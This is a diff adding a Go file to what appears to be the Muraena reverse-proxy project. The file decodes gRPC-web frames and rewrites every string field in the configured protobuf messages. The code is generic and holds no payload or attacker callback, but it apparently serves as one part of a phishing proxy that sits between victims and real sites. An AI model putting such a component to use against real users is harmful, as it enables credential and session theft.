@@ -0,0 +1,220 @@
+package proxy
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/binary"
+	"fmt"
+	"io/ioutil"
+	"mime"
+	"strings"
+
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/reflect/protodesc"
+	"google.golang.org/protobuf/reflect/protoreflect"
+	"google.golang.org/protobuf/reflect/protoregistry"
+	"google.golang.org/protobuf/types/descriptorpb"
+	"google.golang.org/protobuf/types/dynamicpb"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+const (
+	// grpcTrailerFlag marks a gRPC-web frame carrying the trailers instead of a message
+	grpcTrailerFlag = 0x80
+	// grpcCompressedFlag marks a compressed message frame
+	grpcCompressedFlag = 0x01
+)
+
+// grpcMethod is the pair of message types exchanged by a gRPC method
+type grpcMethod struct {
+	request  protoreflect.MessageDescriptor
+	response protoreflect.MessageDescriptor
+}
+
+// grpcMethods are the gRPC methods whose messages are rewritten, keyed by request path (/package.Service/Method)
+var grpcMethods map[string]*grpcMethod
+
+// isGRPC checks if the Content-Type is a gRPC or gRPC-web one.
+// The second value reports if the body is base64 encoded (application/grpc-web-text).
+func isGRPC(contentType string) (grpc bool, text bool) {
+	mediaType, _, err := mime.ParseMediaType(contentType)
+	if err != nil {
+		return false, false
+	}
+
+	switch {
+	case strings.HasPrefix(mediaType, "application/grpc-web-text"):
+		return true, true
+	case strings.HasPrefix(mediaType, "application/grpc"):
+		return true, false
+	}
+
+	return false, false
+}
+
+// newGRPCMethods loads the descriptor sets and resolves the message types of the configured methods
+func newGRPCMethods(sess *session.Session) (map[string]*grpcMethod, error) {
+	config := sess.Config.Transform.GRPCWeb
+	if len(config.Methods) == 0 {
+		return nil, nil
+	}
+
+	files := new(protoregistry.Files)
+	for _, path := range config.Descriptors {
+		data, err := ioutil.ReadFile(path)
+		if err != nil {
+			return nil, err
+		}
+
+		var set descriptorpb.FileDescriptorSet
+		if err := proto.Unmarshal(data, &set); err != nil {
+			return nil, fmt.Errorf("invalid descriptor set %s: %w", path, err)
+		}
+
+		for _, fd := range set.GetFile() {
+			if _, err := files.FindFileByPath(fd.GetName()); err == nil {
+				continue
+			}
+
+			file, err := protodesc.NewFile(fd, files)
+			if err != nil {
+				return nil, fmt.Errorf("invalid descriptor %s in %s: %w", fd.GetName(), path, err)
+			}
+			if err := files.RegisterFile(file); err != nil {
+				return nil, err
+			}
+		}
+	}
+
+	find := func(name string) (protoreflect.MessageDescriptor, error) {
+		if name == "" {
+			return nil, nil
+		}
+
+		d, err := files.FindDescriptorByName(protoreflect.FullName(name))
+		if err != nil {
+			return nil, fmt.Errorf("gRPC message %s: %w", name, err)
+		}
+
+		md, ok := d.(protoreflect.MessageDescriptor)
+		if !ok {
+			return nil, fmt.Errorf("gRPC descriptor %s is not a message", name)
+		}
+		return md, nil
+	}
+
+	methods := make(map[string]*grpcMethod)
+	for _, m := range config.Methods {
+		method := &grpcMethod{}
+
+		var err error
+		if method.request, err = find(m.Request); err != nil {
+			return nil, err
+		}
+		if method.response, err = find(m.Response); err != nil {
+			return nil, err
+		}
+
+		methods[m.Path] = method
+	}
+
+	return methods, nil
+}
+
+// transformGRPC rewrites the string fields of the messages carried by a gRPC-web body.
+// Trailers and compressed frames are passed through untouched.
+func transformGRPC(body []byte, text bool, message protoreflect.MessageDescriptor, transform func(string) string) ([]byte, error) {
+	if text {
+		decoded, err := base64.StdEncoding.DecodeString(string(body))
+		if err != nil {
+			return nil, err
+		}
+		body = decoded
+	}
+
+	var out bytes.Buffer
+	for len(body) > 0 {
+		if len(body) < 5 {
+			return nil, fmt.Errorf("truncated gRPC frame header")
+		}
+
+		flag := body[0]
+		length := binary.BigEndian.Uint32(body[1:5])
+		if uint64(len(body)-5) < uint64(length) {
+			return nil, fmt.Errorf("truncated gRPC frame")
+		}
+
+		payload := body[5 : 5+length]
+		body = body[5+length:]
+
+		if flag&(grpcTrailerFlag|grpcCompressedFlag) == 0 {
+			msg := dynamicpb.NewMessage(message)
+			if err := proto.Unmarshal(payload, msg); err != nil {
+				return nil, err
+			}
+
+			transformMessage(msg, transform)
+
+			var err error
+			if payload, err = proto.Marshal(msg); err != nil {
+				return nil, err
+			}
+		}
+
+		header := make([]byte, 5)
+		header[0] = flag
+		binary.BigEndian.PutUint32(header[1:], uint32(len(payload)))
+		out.Write(header)
+		out.Write(payload)
+	}
+
+	if text {
+		return []byte(base64.StdEncoding.EncodeToString(out.Bytes())), nil
+	}
+
+	return out.Bytes(), nil
+}
+
+// transformMessage applies transform to all the string fields of the message, recursively
+func transformMessage(msg protoreflect.Message, transform func(string) string) {
+	msg.Range(func(fd protoreflect.FieldDescriptor, v protoreflect.Value) bool {
+		switch {
+		case fd.IsList():
+			list := v.List()
+			for i := 0; i < list.Len(); i++ {
+				if value, ok := transformValue(fd, list.Get(i), transform); ok {
+					list.Set(i, value)
+				}
+			}
+
+		case fd.IsMap():
+			m := v.Map()
+			m.Range(func(k protoreflect.MapKey, mv protoreflect.Value) bool {
+				if value, ok := transformValue(fd.MapValue(), mv, transform); ok {
+					m.Set(k, value)
+				}
+				return true
+			})
+
+		default:
+			if value, ok := transformValue(fd, v, transform); ok {
+				msg.Set(fd, value)
+			}
+		}
+		return true
+	})
+}
+
+// transformValue transforms a single string value, or the fields of a message value.
+// It returns false if the value does not need to be set again.
+func transformValue(fd protoreflect.FieldDescriptor, v protoreflect.Value, transform func(string) string) (protoreflect.Value, bool) {
+	switch fd.Kind() {
+	case protoreflect.StringKind:
+		return protoreflect.ValueOfString(transform(v.String())), true
+	case protoreflect.MessageKind, protoreflect.GroupKind:
+		transformMessage(v.Message(), transform)
+	}
+
+	return v, false
+}